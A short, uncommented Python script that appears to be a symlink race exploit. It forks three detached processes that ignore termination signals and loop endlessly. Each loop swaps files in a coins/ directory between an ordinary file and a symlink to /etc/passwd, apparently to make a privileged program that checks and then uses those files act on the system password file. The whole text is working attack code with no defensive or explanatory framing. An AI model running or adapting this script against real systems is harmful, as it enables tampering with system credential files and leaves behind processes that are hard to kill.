import os
import signal

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        me = os.getpid()
        while True:
            with open(f"coins/new{me}", "w") as file:
                file.write(f"pid = {me}")
            os.replace(f"coins/new{me}", f"coins/swapped{me % 2}.py")
            os.symlink("/etc/passwd", f"coins/link{me}")
            os.replace(f"coins/link{me}", f"coins/swapped{me % 2}.py")
